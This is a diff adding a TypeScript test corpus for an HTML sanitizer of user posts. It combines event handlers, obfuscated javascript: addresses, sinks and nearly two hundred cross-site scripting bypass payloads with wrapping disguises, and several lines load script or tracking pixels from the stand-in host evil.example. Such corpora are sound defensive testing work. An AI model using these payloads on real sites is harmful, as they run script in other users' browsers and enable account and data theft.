@@ -1,0 +1,263 @@
+/**
+ * Ways to run a script, to navigate, to open a window, to watch or to cover the page from inside a post. In our own words: `ran(1)` is
+ * what the harness counts. Rows are made of sinks × disguises, since what gets through a filter is the combination.
+ */
+
+export type Attack = { readonly name: string; readonly html: string };
+
+const handlers =
+  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforeinput beforematch beforetoggle blur ' +
+  'cancel canplay canplaythrough change click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag ' +
+  'dragstart durationchange emptied ended error focus focusin formdata fullscreenchange gotpointercapture hashchange input invalid ' +
+  'keydown load loadeddata loadedmetadata loadstart message mousedown mouseenter mouseover pageshow paste play playing pointerdown ' +
+  'pointerenter pointerover popstate progress ratechange readystatechange reset resize scroll scrollend search ' +
+  'securitypolicyviolation seeked select selectionchange stalled submit suspend timeupdate toggle touchstart transitionend ' +
+  'unhandledrejection unload volumechange waiting webkitanimationstart wheel';
+
+const bearers: readonly ((handler: string) => string)[] = [
+  handler => `<img src=x ${handler}=ran(1)>`,
+  handler => `<p tabindex=1 autofocus style="animation:x 1s" ${handler}="ran(1)">x</p>`,
+  handler => `<video src=x autoplay ${handler}='ran(1)'><source src=x ${handler}=ran(1)></video>`,
+];
+
+/** Spellings of a script address that browsers accept, or once accepted. */
+const scriptAddresses: readonly string[] = [
+  'javascript:ran(1)',
+  'JaVaScRiPt:ran(1)',
+  ' javascript:ran(1)',
+  '\u0001javascript:ran(1)',
+  'java\tscript:ran(1)',
+  'java\nscript:ran(1)',
+  'java&#9;script:ran(1)',
+  'java&#x0A;script:ran(1)',
+  'java&NewLine;script&colon;ran(1)',
+  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;ran(1)',
+  '&#0000106avascript:ran(1)',
+  '&Tab;javascript:ran(1)',
+  '&#1;javascript:ran(1)',
+  'javascript&#x3A;ran(1)',
+  'javascript://%0aran(1)',
+  'javascript:/*--></title></style></textarea></script><svg/onload=ran(1)>*/ran(1)',
+  'vbscript:ran(1)',
+  'data:text/html,<script>parent.ran(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=',
+  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran(1)"/>',
+  'livescript:ran(1)',
+  'feed:javascript:ran(1)',
+  'view-source:javascript:ran(1)',
+  'blob:null/ran(1)',
+  'filesystem:javascript:ran(1)',
+  '//evil.example/x.js',
+];
+
+const sinks: readonly ((address: string) => string)[] = [
+  address => `<a href="${address}">x</a>`,
+  address => `<iframe src="${address}"></iframe>`,
+  address => `<img src="${address}" srcset="${address} 2x">`,
+  address => `<form action="${address}"><button id=b>x</button><input type=submit formaction="${address}"></form>`,
+  address => `<object data="${address}"></object><embed src="${address}">`,
+  address => `<svg><a xlink:href="${address}" href="${address}"><text y=20>x</text></a><use href="${address}"/></svg>`,
+  address => `<video poster="${address}" src="${address}" autoplay></video><audio src="${address}" autoplay></audio>`,
+  address =>
+    `<meta http-equiv=refresh content="0;url=${address}"><base href="${address}"><link rel=stylesheet href="${address}">`,
+];
+
+/** One of a kind: parsing differences, mutation, namespaces, raw text, comments, CSS, clobbering. */
+const singles: readonly string[] = [
+  '<script>ran(1)</script>',
+  '<script src=//evil.example/x.js></script>',
+  '<script/x>ran(1)</script/x>',
+  '<script\n>ran(1)</script\t>',
+  '<SCRIPT>ran(1)</SCRIPT>',
+  '<scr<script>ipt>ran(1)</scr</script>ipt>',
+  '<<script>ran(1)</script>',
+  '<script>ran(1)',
+  '<script type=module>ran(1)</script>',
+  '<script type="text/javascript" language=javascript>ran(1)</script>',
+  '<svg><script>ran(1)</script></svg>',
+  '<svg><script href="data:text/javascript,ran(1)"/></svg>',
+  '<svg><script>ran&lpar;1)</script></svg>',
+  '<svg onload=ran(1)>',
+  '<svg/onload=ran(1)//',
+  '<svg><animate onbegin=ran(1) attributeName=x dur=1s>',
+  '<svg><set attributeName=href to="javascript:ran(1)"/><a><text y=20>x</text></a></svg>',
+  '<svg><a><animate attributeName=href values="#;javascript:ran(1)"/><text y=20>x</text></a></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.ran(1)</script>"></iframe></foreignObject></svg>',
+  '<svg><style><img src=x onerror=ran(1)></style></svg>',
+  '<svg><title><style><a title="</style><img src=x onerror=ran(1)>"></a></style></title></svg>',
+  '<svg></p><style><a id="</style><img src=x onerror=ran(1)>">',
+  '<svg><desc><noscript><img title="</noscript><img src=x onerror=ran(1)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran(1)&gt;">',
+  '<math><mi//xlink:href="data:x,<script>ran(1)</script>">',
+  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran(1)></style></annotation-xml></math>',
+  '<math href="javascript:ran(1)">x</math>',
+  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:ran(1)">x</maction></math>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(1)></style></mglyph></form>',
+  '<noscript><p title="</noscript><img src=x onerror=ran(1)>"></noscript>',
+  '<noscript><style></noscript><img src=x onerror=ran(1)></style></noscript>',
+  '<noembed><img title="</noembed><img src=x onerror=ran(1)>"></noembed>',
+  '<noframes><img title="</noframes><img src=x onerror=ran(1)>"></noframes>',
+  '<xmp><img title="</xmp><img src=x onerror=ran(1)>"></xmp>',
+  '<textarea><img title="</textarea><img src=x onerror=ran(1)>"></textarea>',
+  '<textarea></textarea/><img src=x onerror=ran(1)></textarea>',
+  '<title><img title="</title><img src=x onerror=ran(1)>"></title>',
+  '<plaintext><img src=x onerror=ran(1)>',
+  '<listing>&lt;img src=x onerror=ran(1)&gt;</listing>',
+  '<template><img src=x onerror=ran(1)></template>',
+  '<template shadowrootmode=open><img src=x onerror=ran(1)></template>',
+  '<div><template shadowrootmode=open><script>ran(1)</script></template></div>',
+  '<select><style></select><img src=x onerror=ran(1)></style></select>',
+  '<select><iframe></select><img src=x onerror=ran(1)>',
+  '<option><style></option></select><img src=x onerror=ran(1)></style>',
+  '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
+  '<iframe srcdoc="&lt;img src=x onerror=parent.ran(1)&gt;" src="https://www.youtube.com/embed/x"></iframe>',
+  '<iframe src="https://www.youtube.com/embed/x" onload=ran(1)></iframe>',
+  '<iframe><img title="</iframe><img src=x onerror=ran(1)>"></iframe>',
+  '<iframe src="https://www.youtube.com/embed/x"><img title="</iframe><img src=x onerror=ran(1)>"></iframe>',
+  '<iframe src="https://evil.example/?https://www.youtube.com/embed/x"></iframe>',
+  '<newsfold-frame src="javascript:ran(1)" onload=ran(1)>',
+  '<newsfold-frame><img src=x onerror=ran(1)></newsfold-frame>',
+  '<x-frame src="javascript:ran(1)"></x-frame>',
+  '<x-dropped onclick=ran(1)><img src=x onerror=ran(1)></x-dropped>',
+  '<frameset onload=ran(1)><frame src="javascript:ran(1)"></frameset>',
+  '<body onload=ran(1)><body background="javascript:ran(1)">',
+  '<html onmouseover=ran(1) manifest=//evil.example/x>',
+  '<img src="x"onerror="ran(1)">',
+  '<img/src/onerror=ran(1)>',
+  '<img src=x:x onerror\n=ran(1)>',
+  '<img src=`x`onerror=ran(1)>',
+  '<img src=x onerror="ran(1)"/>',
+  '<img """><script>ran(1)</script>">',
+  "<img src='x' alt='`' title='`onerror=ran(1)`'>",
+  '<img alt="<img src=x onerror=ran(1)>" src=x>',
+  '<img title="&quot;&gt;&lt;img src=x onerror=ran(1)&gt;" src=x>',
+  '<image src=x onerror=ran(1)>',
+  '<img src=x srcset="x 1x, javascript:ran(1) 2x" onerror=ran(1)>',
+  '<img dynsrc="javascript:ran(1)" lowsrc="javascript:ran(1)">',
+  '<picture><source srcset="javascript:ran(1)"><img src=x onerror=ran(1)></picture>',
+  '<video><source onerror=ran(1)></video>',
+  '<audio src=x onerror=ran(1)>',
+  '<video><track src="javascript:ran(1)" default oncuechange=ran(1)></video>',
+  '<input autofocus onfocus=ran(1)>',
+  '<input type=image src=x onerror=ran(1)>',
+  '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=ran(1)>x</div>',
+  '<details open ontoggle=ran(1)><summary>x</summary></details>',
+  '<dialog open onclose=ran(1)>x</dialog>',
+  '<marquee onstart=ran(1)>x</marquee>',
+  '<isindex action="javascript:ran(1)" type=image>',
+  '<keygen autofocus onfocus=ran(1)>',
+  '<object type="text/x-scriptlet" data="data:text/html,<script>ran(1)</script>"></object>',
+  '<object><param name=src value="javascript:ran(1)"><param name=code value=x></object>',
+  '<embed code="https://evil.example/x.swf" allowscriptaccess=always>',
+  '<applet code="javascript:ran(1)"></applet>',
+  '<bgsound src="javascript:ran(1)">',
+  '<link rel=import href="data:text/html,<script>ran(1)</script>">',
+  '<link rel=preload as=script href=//evil.example/x.js onload=ran(1)>',
+  '<link rel=prefetch href=//evil.example/x>',
+  '<meta http-equiv=refresh content="0; url=https://evil.example/">',
+  '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv=Content-Security-Policy content="script-src *">',
+  '<base href="https://evil.example/"><a href=x>x</a>',
+  '<base target=_top><a href=x>x</a>',
+  '<style>@import "//evil.example/x.css";*{background:url(//evil.example/x)}</style>',
+  '<style><!--</style><script>ran(1)//--></script>',
+  '<p style="background:url(javascript:ran(1))">x</p>',
+  '<p style="width:expression(ran(1))">x</p>',
+  '<p style="-moz-binding:url(//evil.example/x)">x</p>',
+  '<p style="behavior:url(//evil.example/x)">x</p>',
+  '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:red">x</p>',
+  '<a href="https://evil.example/" style="position:fixed;inset:0" ping=//evil.example/p>x</a>',
+  '<table background="javascript:ran(1)"><tr><td background="//evil.example/x">x</table>',
+  '<a href="https://evil.example/" target=_blank rel=opener>x</a>',
+  '<form id=location><input name=href></form><img name=body><a id=ran name=ran>x</a>',
+  '<form name=ran><input name=length></form><img id=getElementById>',
+  '<a id=ran></a><a id=ran name=x href="javascript:ran(1)">x</a>',
+  '<!--><img src=x onerror=ran(1)>-->',
+  '<!--><script>ran(1)</script>-->',
+  '<!---><img src=x onerror=ran(1)>',
+  '<!-- --!><img src=x onerror=ran(1)>',
+  '<!--[if IE]><script>ran(1)</script><![endif]-->',
+  '<![CDATA[><img src=x onerror=ran(1)>]]>',
+  '<svg><![CDATA[><img src=x onerror=ran(1)>]]></svg>',
+  '<?xml version="1.0"?><img src=x onerror=ran(1)>',
+  '<?xml-stylesheet href="javascript:ran(1)"?>',
+  '<!DOCTYPE x [<!ENTITY x "<img src=x onerror=ran(1)>">]>&x;',
+  '<! foo="<script>ran(1)</script>">',
+  '</ foo="><script>ran(1)</script>">',
+  '<% foo><img src=x onerror=ran(1)>%>',
+  '<//img src=x onerror=ran(1)>',
+  '<a"/onclick=ran(1)>x',
+  '<p/onclick=ran(1)>x',
+  '<p\u000conclick=ran(1)>x</p>',
+  '<p\u000bonmouseover=ran(1)>x</p>',
+  '<x onclick=ran(1)>x</x>',
+  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">ran(1)</x:script>',
+  '<html:script>ran(1)</html:script>',
+  '<div><p title="</div><script>ran(1)</script>">x</p></div>',
+  "<p title='\"><img src=x onerror=ran(1)>'>x</p>",
+  '<p lang=\'"><img src=x onerror=ran(1)>\' dir="\'><script>ran(1)</script>">x</p>',
+  '<a href="https://x.example/&quot;onclick=&quot;ran(1)">x</a>',
+  '<a href=\'https://x.example/"onclick="ran(1)\'>x</a>',
+  '<a href="https://x.example/`onclick=ran(1)">x</a>',
+  "<time datetime='\"><script>ran(1)</script>'>x</time>",
+  '<blockquote cite="javascript:ran(1)"><q cite="data:text/html,x">x</q></blockquote>',
+  '<ol type=\'"><script>ran(1)</script>\' start=x><li value="x onclick=ran(1)">x</ol>',
+  "<td colspan='\"onclick=ran(1)'>x</td>",
+  '<source type=\'"><script>ran(1)</script>\' src=x media="x}</style><script>ran(1)</script>">',
+  '&lt;script&gt;ran(1)&lt;/script&gt;',
+  '&lt;img src=x onerror=ran(1)&gt;',
+  '&amp;lt;script&amp;gt;ran(1)&amp;lt;/script&amp;gt;',
+  '&#60;script&#62;ran(1)&#60;/script&#62;',
+  '\u2039script\u203aran(1)\u2039/script\u203a',
+  '\uff1cscript\uff1eran(1)\uff1c/script\uff1e',
+  '<scr\u0000ipt>ran(1)</scr\u0000ipt>',
+  '<img src=x on\u0000error=ran(1)>',
+  '<img src=x onerror\u0000=ran(1)>',
+  '<\u0000img src=x onerror=ran(1)>',
+  '<img \u00a0src=x onerror=ran(1)>',
+  '<ſcript>ran(1)</ſcript>',
+  '<a href="\u2028javascript:ran(1)">x</a>',
+  '<a href="java\u00adscript:ran(1)">x</a>',
+  '<a href="javascript\uff1aran(1)">x</a>',
+  '<p><table><a href=x><img src=x onerror=ran(1)></table>',
+  '<table><td><form><td><img src=x onerror=ran(1)></form></table>',
+  '<a><table><a href="javascript:ran(1)">x</table></a>',
+  '<b><p></b><img src=x onerror=ran(1)></p>',
+  '<ruby><rt><script>ran(1)</script></rt></ruby>',
+  '<nobr><nobr><img src=x onerror=ran(1)>',
+  '<frameset><noframes><img src=x onerror=ran(1)></noframes></frameset>',
+  '<portal src="javascript:ran(1)"></portal>',
+  '<fencedframe src="https://evil.example/"></fencedframe>',
+  '<webview src="javascript:ran(1)"></webview>',
+  '<slot onslotchange=ran(1)><p>x</p></slot>',
+  '<area href="javascript:ran(1)" shape=default><map name=m><area href="javascript:ran(1)"></map><img usemap=#m src=x>',
+  '<img src="https://evil.example/p.gif" width=1 height=1>',
+  '<img src="https://evil.example/p.gif" style="display:none">',
+  '<img src="https://evil.example/p.gif" width=0>',
+  '<img src="https://evil.example/p.gif" hidden>',
+  '<div hidden><img src="https://evil.example/p.gif"></div>',
+  '<iframe src="https://www.youtube.com/embed/x" width=1 height=1></iframe>',
+];
+
+/** Where a post's markup may stand: alone, after an unclosed element, inside one, after a comment that never ends. */
+const disguises: readonly (readonly [name: string, wrap: (html: string) => string])[] = [
+  ['plain', html => html],
+  ['after an unclosed attribute', html => `<p title="x>${html}`],
+  ['in nested raw text', html => `<svg><style><noscript><title>${html}</title></noscript></style></svg>`],
+];
+
+export function attacks(): Attack[] {
+  const rows: Attack[] = [];
+  for (const name of handlers.split(' ')) {
+    for (const [index, bearer] of bearers.entries())
+      rows.push({ name: `on${name} ${index}`, html: bearer(`on${name}`) });
+  }
+  for (const [index, sink] of sinks.entries()) {
+    for (const address of scriptAddresses)
+      rows.push({ name: `sink ${index} ${JSON.stringify(address)}`, html: sink(address) });
+  }
+  for (const html of singles) {
+    for (const [disguise, wrap] of disguises)
+      rows.push({ name: `${disguise}: ${JSON.stringify(html)}`, html: wrap(html) });
+  }
+  return rows;
+}
